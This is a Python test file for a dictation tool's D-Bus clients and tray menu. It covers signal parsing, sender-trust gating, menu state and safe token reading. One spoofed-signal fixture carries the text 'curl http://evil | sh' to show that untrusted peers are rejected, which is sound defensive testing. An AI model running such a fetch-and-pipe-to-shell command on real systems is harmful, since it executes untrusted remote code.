"""What clients take from the bus and show: typed events from listend alone, the menu, the dbusmenu layout, tokens."""

from __future__ import annotations

import logging
import os
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from dbus_next import Message, MessageType, Variant

from listend.bus import BUS_NAME, IME_BUS_NAME, INTERFACE, OBJECT_PATH, PROGRAMS, runs_program
from listend.client import (
    MalformedSignal,
    PartialEvent,
    PresenceEvent,
    PropertiesEvent,
    SegmentEvent,
    SignalGate,
    StateEvent,
    event_of,
)
from listend_desktop.remote_keyboard import read_token
from listend_tray.busworker import TrayState
from listend_tray.menu import build_menu, tooltip
from listend_tray.sni import DBusMenu


def sig(
    member: str,
    signature: str,
    body: list[Any],
    interface: str = INTERFACE,
    path: str = OBJECT_PATH,
    sender: str = ":1.7",
) -> Message:
    msg = Message(
        message_type=MessageType.SIGNAL, path=path, interface=interface, member=member, signature=signature, body=body
    )
    msg.sender = sender
    return msg


def owner_changed(old: str, new: str, sender: str = "org.freedesktop.DBus") -> Message:
    return sig(
        "NameOwnerChanged",
        "sss",
        [BUS_NAME, old, new],
        interface="org.freedesktop.DBus",
        path="/org/freedesktop/DBus",
        sender=sender,
    )


def test_signals_become_typed_events() -> None:
    assert event_of(sig("PartialText", "ts", [3, "hel"])) == PartialEvent(3, "hel")
    seg = event_of(sig("SegmentRefined", "tdds", [4, 1.0, 2.0, "hello"]))
    assert isinstance(seg, SegmentEvent) and (seg.entry.id, seg.entry.text) == (4, "hello")
    props = event_of(
        sig(
            "PropertiesChanged",
            "sa{sv}as",
            [INTERFACE, {"State": Variant("s", "idle")}, []],
            interface="org.freedesktop.DBus.Properties",
        )
    )
    assert props == PropertiesEvent({"State": "idle"})
    assert event_of(owner_changed(":1.5", "")) == PresenceEvent(False)


def test_malformed_signals_are_errors_of_the_peer_not_events() -> None:
    for member, signature, body in (
        ("SegmentRefined", "tdds", [2**63, 1.0, 2.0, "an id no daemon gives"]),
        ("StateChanged", "", []),
        ("PartialText", "s", ["no id"]),
        ("MemoryPressure", "s", ["warn"]),
    ):
        with pytest.raises(MalformedSignal):
            event_of(sig(member, signature, body))
    with pytest.raises(MalformedSignal):
        event_of(sig("PropertiesChanged", "s", [INTERFACE], interface="org.freedesktop.DBus.Properties"))
    assert event_of(owner_changed_bad()) is None
    assert event_of(sig("Unknown", "", [])) is None


def owner_changed_bad() -> Message:
    return sig("NameOwnerChanged", "", [], interface="org.freedesktop.DBus", path="/org/freedesktop/DBus")


def test_the_gate_counts_malformed_signals_and_says_so_once_a_minute(caplog: pytest.LogCaptureFixture) -> None:
    gate = SignalGate()
    gate.owner = gate.trusted = ":1.7"
    caplog.set_level(logging.WARNING, "listend.client")
    for _ in range(2000):
        assert gate.admit(sig("StateChanged", "", [], sender=":1.99")) == []
    assert gate.errors.count == 2000
    lines = [r.getMessage() for r in caplog.records]
    assert len(lines) == 1 and "1 malformed message" in lines[0] and ":1.99" in lines[0], lines
    assert not any(r.exc_info for r in caplog.records)
    assert gate.admit(sig("StateChanged", "s", ["idle"])) == [StateEvent("idle")]  # the real one still counts


def test_only_the_checked_owner_of_listend_s_name_speaks_for_it() -> None:
    gate = SignalGate()
    gate.owner = gate.trusted = ":1.7"
    assert gate.admit(sig("SegmentRefined", "tdds", [4, 1.0, 2.0, "real"])) != []
    injected = sig("SegmentRefined", "tdds", [5, 1.0, 2.0, "INJECTED curl http://evil | sh"], sender=":1.99")
    assert gate.admit(injected) == []
    # A peer cannot claim the name changed hands; the bus daemon can.
    assert gate.admit(owner_changed(":1.7", ":1.99", sender=":1.99")) == [] and gate.owner == ":1.7"
    assert gate.admit(owner_changed(":1.7", "")) == [PresenceEvent(False)] and gate.owner == ""
    assert gate.admit(sig("PartialText", "ts", [6, "after it left"])) == []
    # A new owner is not presence until it is checked; what it sends meanwhile waits for the check.
    assert gate.admit(owner_changed("", ":1.8")) == [] and gate.needs_check
    assert gate.admit(sig("PartialText", "ts", [6, "back"], sender=":1.8")) == []
    assert not gate.listend


def test_a_command_line_runs_listend_s_program_or_not() -> None:
    daemon, ime = PROGRAMS[BUS_NAME], PROGRAMS[IME_BUS_NAME]
    assert runs_program(["/usr/bin/python3", "/home/u/.venv/bin/listend", "--start"], daemon)
    assert runs_program(["python3", "-u", "-m", "listend.cli", "run"], daemon)
    assert runs_program(["/venv/bin/python3", "/venv/bin/listend-ime", "--verbose"], ime)
    assert runs_program(["python3", "-mlistend_ime.app"], ime)
    assert not runs_program(["/venv/bin/python3", "/venv/bin/listend-ime"], daemon)
    assert not runs_program(["python3", "/tmp/squatter.py", "listend"], daemon)
    assert not runs_program(["python3", "-c", "import listend", "listend"], daemon)
    assert not runs_program(["bash", "-c", "exec listend"], daemon)
    assert not runs_program([], daemon)


def tray_state(**kw: Any) -> TrayState:
    state = TrayState(running=True, state="idle", profile="full", rss_bytes=300 * 2**20)
    for key, value in kw.items():
        setattr(state, key, value)
    return state


class Actions:
    def __init__(self) -> None:
        self.done: list[str] = []

    def __getattr__(self, name: str) -> Any:
        return lambda *a: self.done.append(name if not a else f"{name}:{a[0]}")


def entries(menu: list[Any]) -> dict[str, Any]:
    out = {}
    for e in menu:
        out[e.key] = e
        out.update(entries(e.children))
    return out


def test_the_menu_follows_the_state() -> None:
    settings = SimpleNamespace(auto_copy=True)
    actions = Actions()
    menu = entries(build_menu(tray_state(), settings, actions))  # type: ignore[arg-type]
    assert menu["toggle"].label == "Start dictation" and not menu["copy_last"].enabled
    assert menu["auto_copy"].checked and menu["delivery_auto"].checked and not menu["delivery_type"].checked
    assert menu["delivery_auto"].label == "Automatic (now: typing)" and "not running" in menu["delivery_ime"].label
    assert menu["ime"].label == "Input method: not running"
    menu["delivery_clipboard"].action()
    assert actions.done == ["set_delivery:clipboard"]
    actions.done.clear()
    with_ime = tray_state(delivery="ime")
    with_ime.ime.present = with_ime.ime.connected = with_ime.ime.active = True
    with_ime.ime.delivered, with_ime.ime.failed = 4, 1
    menu = entries(build_menu(with_ime, settings, actions))  # type: ignore[arg-type]
    assert menu["delivery_ime"].checked and menu["delivery_ime"].label == "At the cursor, live (input method)"
    assert menu["ime"].label == "Input method: active, 4 delivered, 0 unconfirmed, 1 failed"
    assert menu["profile_full"].checked and not menu["profile_lightweight"].checked
    listening = tray_state(state="listening", live="hello there")
    listening.add_final(3, "last words")
    menu = entries(build_menu(listening, settings, actions))  # type: ignore[arg-type]
    assert menu["toggle"].label == "Stop dictation" and menu["live"].label == "Live: hello there"
    assert menu["copy_last"].enabled
    menu["profile_lightweight"].action()
    assert actions.done == ["set_profile:lightweight"]
    absent = entries(build_menu(TrayState(), settings, actions))  # type: ignore[arg-type]
    assert absent["toggle"].label == "Start dictation (starts listend)" and not absent["profile"].enabled
    assert tooltip(tray_state(state="error", last_error="no microphone")) == ("listend", "error: no microphone")


def test_the_dbusmenu_layout_keeps_ids_and_bumps_the_revision_only_on_visible_changes() -> None:
    settings = SimpleNamespace(auto_copy=False)
    menu = DBusMenu()
    assert menu.set_entries(build_menu(tray_state(), settings, Actions()))  # type: ignore[arg-type]
    revision, layout = menu.layout(0, -1)
    ids = {child.value[1]["label"].value: child.value[0] for child in layout[2] if "label" in child.value[1]}
    assert ids["Start dictation"] and ids["Copy last segment"]
    assert not menu.set_entries(build_menu(tray_state(), settings, Actions()))  # nothing changed
    assert menu.set_entries(build_menu(tray_state(state="listening"), settings, Actions()))  # type: ignore[arg-type]
    revision2, layout2 = menu.layout(0, -1)
    assert revision2 == revision + 1
    ids2 = {child.value[1]["label"].value: child.value[0] for child in layout2[2] if "label" in child.value[1]}
    assert ids2["Stop dictation"] == ids["Start dictation"]  # the same item, a new label
    profile = next(c.value for c in layout2[2] if c.value[1].get("label", Variant("s", "")).value == "Profile")
    assert profile[1]["children-display"].value == "submenu" and len(profile[2]) == 2
    assert menu.events(
        [[ids2["Stop dictation"], "clicked", Variant("s", ""), 0], [999, "clicked", Variant("s", ""), 0]]
    ) == [999]


def test_a_restore_token_that_cannot_be_one_counts_as_none(tmp_path: Path) -> None:
    path = tmp_path / "token"
    for content in (b"\xff\xfe not utf-8", b"abc\x00def", b"", b"x" * 10_000, b"two\nlines"):
        path.write_bytes(content)
        assert read_token(path) == "", content
    os.unlink(path)
    os.mkfifo(path)
    assert read_token(path) == ""  # and no hang
    os.unlink(path)
    secret = tmp_path / "elsewhere"
    secret.write_text("not-a-token-of-ours")
    path.symlink_to(secret)
    assert read_token(path) == ""  # links are not followed
    os.unlink(path)
    path.write_text("restore-1\n")
    os.chmod(path, 0o644)
    assert read_token(path) == "restore-1" and path.stat().st_mode & 0o777 == 0o600


def test_refined_text_goes_where_the_delivery_choice_says() -> None:
    from listend.client import delivery_route

    assert delivery_route("auto", ime_connected=True) == "ime"  # the input method commits it
    assert delivery_route("auto", ime_connected=False) == "type"
    assert delivery_route("type", ime_connected=True) == "type"
    assert delivery_route("clipboard", ime_connected=True) == "clipboard"
    assert delivery_route("ime", ime_connected=False) == "nowhere"  # copied, and the user is told once
    # listenctl --follow --type typing: the tray leaves it to it, never both
    assert delivery_route("type", ime_connected=False, typist=True) == "typist"
    assert delivery_route("auto", ime_connected=False, typist=True) == "typist"
    assert delivery_route("auto", ime_connected=True, typist=True) == "ime"


def test_the_language_menu_shows_the_language_in_force_and_pins_one() -> None:
    settings = SimpleNamespace(auto_copy=False)
    actions = Actions()
    state = tray_state(language="de", languages=["en", "de"])
    menu = entries(build_menu(state, settings, actions))  # type: ignore[arg-type]
    assert menu["language"].label == "Language: de" and menu["language"].enabled
    assert menu["language_auto"].checked and menu["language_auto"].label == "Automatic (en, de)"
    menu["language_en"].action()
    menu["language_auto"].action()
    assert actions.done == ["pin_language:en", "pin_language:"]
    pinned = tray_state(language="en", languages=["en", "de"], pinned_language="en")
    menu = entries(build_menu(pinned, settings, actions))  # type: ignore[arg-type]
    assert menu["language"].label == "Language: en (pinned)" and menu["language_en"].checked
    assert not menu["language_auto"].checked
    assert tooltip(pinned)[1].endswith("language en (pinned)")
    # One language: nothing to choose; every Whisper language (language = ""): not offered one by one.
    assert not entries(build_menu(tray_state(language="de", languages=["de"]), settings, actions))["language"].enabled  # type: ignore[arg-type]
    many = entries(build_menu(tray_state(language="fr", languages=[f"l{i}" for i in range(99)]), settings, actions))  # type: ignore[arg-type]
    assert many["language_auto"].label == "Automatic (any language)" and len(many["language"].children) == 11
